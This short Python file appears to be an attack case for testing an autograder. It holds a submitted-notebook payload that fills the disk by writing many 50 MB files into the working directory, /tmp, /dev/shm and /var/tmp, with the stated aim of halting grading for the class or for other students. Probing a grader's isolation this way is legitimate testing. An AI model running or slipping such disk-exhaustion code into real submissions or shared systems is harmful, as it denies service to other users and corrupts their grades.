"""The running notebook writes files until the disk is full.

Success: the class stops, a neighbor is not graded, or deserved points are lost.
"""

ALONE = True
DESERVES = "everything"


def attack(submission):
    submission.solve()
    submission.add("""
        import os
        for number in range(100):
            for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
                try:
                    with open(f"{folder}/fill{number}", "wb") as file:
                        for _ in range(50):
                            file.write(bytes(1 << 20))
                except OSError:
                    pass
    """)
